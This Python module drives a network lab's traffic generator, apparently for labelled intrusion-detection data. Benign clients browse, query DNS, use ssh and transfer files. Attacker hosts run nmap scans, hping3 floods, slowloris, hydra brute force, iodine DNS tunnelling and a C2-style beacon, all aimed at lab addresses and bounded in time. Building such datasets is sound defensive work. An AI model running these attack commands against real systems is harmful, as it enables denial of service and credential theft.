"""The lab's hosts and what each does: benign clients (browsing, DNS lookups, ssh sessions,
iperf3 transfers, FTP downloads) and attackers (nmap scans, hping3 floods, slowhttptest
slowloris, hydra brute force, iodine DNS tunnelling, an HTTP beacon with jitter), each from
its own address, so that every flow's label follows from its client address.

Every activity draws its choices (pages, names, think times, start offsets, ports) from its
own ``random.Random`` seeded with the run's seed and the activity's name, runs every tool
under ``timeout`` and ends before the scenario does; floods and scans are bounded in packets
too. What the tools randomise themselves (ephemeral ports, TCP sequence numbers, nmap's probe
timing) is not under the seed.
"""

import os
import random
import threading
import time
from dataclasses import dataclass

from services import PAGES, TUNNEL_PASSWORD, TUNNEL_SERVER_IP, TUNNEL_ZONE, ZONE
from topology import Host

HERE = os.path.dirname(os.path.abspath(__file__))
WORDS = os.path.join(HERE, "words.txt")

BENIGN_FAMILIES = ("browse", "dns", "ssh", "bulk", "ftp")
MALICIOUS_FAMILIES = ("scan", "flood", "slowloris", "bruteforce", "dns_tunnel", "beacon")


def _host(name, net, last, role, family):
    v4 = {"s": "192.0.2.", "b": "198.51.100.", "m": "203.0.113."}[net]
    v6 = {"s": "2001:db8:1::", "b": "2001:db8:2::", "m": "2001:db8:3::"}[net]
    return Host(name, v4 + str(last), v6 + "%x" % last, role, family)


HOSTS = (
    _host("web", "s", 10, "server", "http"),
    _host("ssh", "s", 22, "server", "ssh"),
    _host("dns", "s", 53, "server", "dns"),
    _host("ftp", "s", 21, "server", "ftp"),
    _host("iperf", "s", 52, "server", "iperf"),
    _host("tun", "s", 54, "server", "iodine"),
    _host("browse1", "b", 11, "benign", "browse"),
    _host("browse2", "b", 12, "benign", "browse"),
    _host("browse3", "b", 13, "benign", "browse"),
    _host("dns1", "b", 21, "benign", "dns"),
    _host("ssh1", "b", 31, "benign", "ssh"),
    _host("bulk1", "b", 41, "benign", "bulk"),
    _host("ftp1", "b", 51, "benign", "ftp"),
    _host("scansyn", "m", 11, "malicious", "scan"),
    _host("scantcp", "m", 12, "malicious", "scan"),
    _host("scanver", "m", 13, "malicious", "scan"),
    _host("floodsyn", "m", 21, "malicious", "flood"),
    _host("floodicmp", "m", 22, "malicious", "flood"),
    _host("slowloris", "m", 31, "malicious", "slowloris"),
    _host("brutessh", "m", 41, "malicious", "bruteforce"),
    _host("brutehttp", "m", 42, "malicious", "bruteforce"),
    _host("tunnel", "m", 51, "malicious", "dns_tunnel"),
    _host("beacon", "m", 61, "malicious", "beacon"),
)


def server(family):
    return next(h for h in HOSTS if h.role == "server" and h.family == family)


@dataclass
class Params:
    """Scenario parameters (the runner's command line)."""

    seed: int
    duration: float
    think: float  # mean think time of benign clients, seconds
    ipv6_share: float  # share of benign requests over IPv6
    bulk_bytes: int  # bytes per iperf3 transfer
    scan_ports: int  # ports per scanned host
    scan_rate: int  # nmap --max-rate, packets/s
    flood_packets: int  # per flood host
    flood_rate: int  # packets/s
    slowloris_connections: int
    bruteforce_words: int  # passwords tried per brute-force host
    beacon_interval: float  # seconds
    beacon_jitter: float  # fraction of the interval


class Context:
    """What an activity needs: its host, its seeded random source, the work directory and a
    way to run a bounded command in its namespace that the scenario's end interrupts."""

    def __init__(self, lab, host, params):
        self.lab, self.host, self.params, self.stop = lab, host, params, lab.stop
        self.rng = random.Random("%d-%s" % (params.seed, host.name))
        self.end = lab.start + params.duration - 2.0

    def left(self):
        return self.end - time.monotonic()

    def sleep(self, seconds):
        """Sleeps up to ``seconds``; False once the activity must stop."""
        seconds = min(seconds, self.left())
        return seconds > 0 and not self.stop.wait(seconds) and self.left() > 0

    def run(self, argv, limit, cwd=None):
        """Runs ``argv`` in the host's namespace for at most ``limit`` seconds (and never past
        the activity's end); the exit status, None when it did not run."""
        p = self.start(argv, min(limit, self.left()), cwd)
        return None if p is None else p.wait()

    def start(self, argv, limit, cwd=None):
        """Starts ``argv`` under ``timeout limit`` in the host's namespace; None when there is
        no time left or the scenario is stopping."""
        if limit <= 0.5 or self.stop.is_set():
            return None
        return self.lab.spawn(self.host.name, ["timeout", "-s", "INT", "-k", "2",
                                               "%.1f" % limit, *argv], self.host.name, cwd)


def _addr(ctx, h):
    """The server's address for one benign request: IPv6 for ``ipv6_share`` of them."""
    return h.ip6 if ctx.rng.random() < ctx.params.ipv6_share else h.ip4


def _url_host(addr):
    return "[%s]" % addr if ":" in addr else addr


def browse(ctx):
    web = server("http")
    weights = [1.0 / (i + 1) for i in range(len(PAGES))]  # Zipf-like page popularity
    while ctx.sleep(ctx.rng.expovariate(1.0 / ctx.params.think)):
        pages = ctx.rng.choices(PAGES, weights, k=ctx.rng.randint(1, 4))
        addr = _addr(ctx, web)
        urls = ["http://www.%s/%s" % (ZONE, p) for p in pages]
        if ctx.rng.random() < 0.7:
            ctx.run(["curl", "-s", "-o", "/dev/null", "--resolve", "www.%s:80:%s" % (ZONE, addr),
                     *urls], 10)
        else:
            urls = ["http://%s/%s" % (_url_host(addr), p) for p in pages]
            ctx.run(["wget", "-q", "-O", "/dev/null", "--header", "Host: www." + ZONE, *urls], 10)


def dns(ctx):
    names = ["www", "http", "ssh", "ftp", "dns", "iperf", "mail", "intranet", "wiki", "vpn"]
    types = ["A", "AAAA", "A", "MX", "TXT", "SOA"]
    resolver = server("dns")
    while ctx.sleep(ctx.rng.expovariate(2.0 / ctx.params.think)):
        name = "%s.%s" % (ctx.rng.choice(names), ZONE)
        ctx.run(["dig", "+tries=1", "+time=2", "@" + _addr(ctx, resolver), name,
                 ctx.rng.choice(types)], 5)


def ssh(ctx):
    sshd, key = server("ssh"), os.path.join(ctx.lab.work, "client_key")
    commands = ["uname -a", "uptime", "ls -l /etc | head -20", "cat /etc/os-release",
                "df -h", "ps ax | head -15", "id; date"]
    while ctx.sleep(ctx.rng.expovariate(1.0 / (3 * ctx.params.think))):
        cmd = "; ".join(ctx.rng.sample(commands, ctx.rng.randint(1, 3)))
        ctx.run(["ssh", "-F", "/dev/null", "-i", key, "-o", "BatchMode=yes",
                 "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                 "-o", "ConnectTimeout=5", "root@" + _addr(ctx, sshd), cmd], 15)


def bulk(ctx):
    iperf = server("iperf")
    while ctx.sleep(ctx.rng.uniform(4, 8) * ctx.params.think):
        args = ["iperf3", "-c", iperf.ip4, "-n", str(ctx.params.bulk_bytes), "-b", "10M"]
        if ctx.rng.random() < 0.4:
            args.append("-R")
        ctx.run(args, 15)


def ftp(ctx):
    srv, files = server("ftp"), ["pub/readme.txt", "pub/release.tar", "pub/data.bin", "pub/"]
    while ctx.sleep(ctx.rng.expovariate(1.0 / (2 * ctx.params.think))):
        path = ctx.rng.choice(files)
        ctx.run(["curl", "-s", "-o", "/dev/null", "ftp://%s/%s" % (srv.ip4, path)], 15)


def _start_later(ctx, earliest, latest):
    """Waits a seeded time in [earliest, latest] of the scenario's duration; False when the
    scenario ended first."""
    return ctx.sleep(ctx.rng.uniform(earliest, latest) * ctx.params.duration)


def _targets(ports):
    hosts = [h.ip4 for h in HOSTS if h.role == "server"]
    return ["-p", "1-%d" % ports, *hosts]


def scan(ctx):
    p = ctx.params
    kind = {"scansyn": ["-sS"], "scantcp": ["-sT"], "scanver": ["-sV", "--version-light"]}
    args = kind[ctx.host.name]
    if ctx.host.name == "scanver":
        target = ["-p", "21,22,53,80,5201", *[h.ip4 for h in HOSTS if h.role == "server"]]
    else:
        target = _targets(p.scan_ports)
    if _start_later(ctx, 0.05, 0.4):
        ctx.run(["nmap", "-n", "-Pn", "--max-retries", "1", "--max-rate", str(p.scan_rate),
                 *args, *target], 0.5 * p.duration)


def flood(ctx):
    p = ctx.params
    interval = "u%d" % max(1, 1_000_000 // p.flood_rate)
    if ctx.host.name == "floodsyn":
        args = ["-S", "-p", "80", "-s", str(ctx.rng.randint(10_000, 50_000)),
                server("http").ip4]
    else:
        args = ["-1", server("dns").ip4]
    if _start_later(ctx, 0.05, 0.5):
        ctx.run(["hping3", "-q", "-i", interval, "-c", str(p.flood_packets), *args],
                p.flood_packets / p.flood_rate + 5)


def slowloris(ctx):
    p = ctx.params
    secs = int(max(5, 0.3 * p.duration))
    if _start_later(ctx, 0.05, 0.4):
        ctx.run(["slowhttptest", "-H", "-c", str(p.slowloris_connections), "-r", "50",
                 "-i", "5", "-x", "24", "-p", "3", "-l", str(secs), "-t", "GET",
                 "-u", "http://%s/index.html" % server("http").ip4], secs + 5)


def bruteforce(ctx):
    p = ctx.params
    with open(WORDS) as f:
        words = [w.strip() for w in f if w.strip()]
    ctx.rng.shuffle(words)
    wordlist = os.path.join(ctx.lab.work, "words-%s.txt" % ctx.host.name)
    with open(wordlist, "w") as f:
        f.write("\n".join(words[: p.bruteforce_words]) + "\n")
    if ctx.host.name == "brutessh":
        service = ["ssh://" + server("ssh").ip4]
    else:
        service = [server("http").ip4, "http-post-form",
                   "/login:user=^USER^&pass=^PASS^:F=invalid"]
    cwd = os.path.join(ctx.lab.work, ctx.host.name)
    os.makedirs(cwd, exist_ok=True)  # hydra writes its restore file here
    if _start_later(ctx, 0.05, 0.4):
        ctx.run(["hydra", "-I", "-q", "-l", "admin", "-P", wordlist, "-t", "4", *service],
                0.5 * p.duration, cwd=cwd)


def dns_tunnel(ctx):
    """Tunnel sessions one after the other (each its own UDP flow to iodined), each moving a
    few files through the tunnel, for half the scenario."""
    if not _start_later(ctx, 0.05, 0.2):
        return
    deadline = time.monotonic() + 0.5 * ctx.params.duration
    while time.monotonic() < deadline and ctx.left() > 10:
        _tunnel_session(ctx, min(deadline - time.monotonic(), ctx.left()))
        if not ctx.sleep(ctx.rng.uniform(1, 3)):
            return


def _tunnel_session(ctx, window):
    client = ctx.start(["iodine", "-f", "-r", "-m", "1000", "-P", TUNNEL_PASSWORD,
                        server("iodine").ip4, TUNNEL_ZONE], window)
    if client is None:
        return
    try:
        for _ in range(ctx.rng.randint(2, 4)):
            if not ctx.sleep(ctx.rng.uniform(2, 4)):
                break
            # Through the tunnel's interface only: nothing while it is not up yet.
            name = ctx.rng.choice(["readme.txt", "data.bin"])
            ctx.run(["curl", "-s", "-o", "/dev/null", "--max-time", "8", "--interface", "dns0",
                     "http://%s:8080/%s" % (TUNNEL_SERVER_IP, name)], 10)
    finally:
        client.terminate()
        client.wait()


def beacon(ctx):
    p = ctx.params
    if _start_later(ctx, 0.0, 0.1):
        ctx.run(["python3", os.path.join(HERE, "beacon.py"), "--url",
                 "http://%s/c2/checkin" % server("http").ip4, "--interval",
                 str(p.beacon_interval), "--jitter", str(p.beacon_jitter),
                 "--seed", str(p.seed), "--seconds", "%.1f" % ctx.left()], ctx.left() + 1)


ACTIVITIES = {
    "browse": browse, "dns": dns, "ssh": ssh, "bulk": bulk, "ftp": ftp,
    "scan": scan, "flood": flood, "slowloris": slowloris, "bruteforce": bruteforce,
    "dns_tunnel": dns_tunnel, "beacon": beacon,
}


def start(lab, params):
    """One thread per client host running its family's activity."""
    threads = []
    for h in HOSTS:
        if h.role == "server":
            continue
        ctx = Context(lab, h, params)
        t = threading.Thread(target=ACTIVITIES[h.family], args=(ctx,), name=h.name,
                             daemon=True)
        t.start()
        threads.append(t)
    return threads
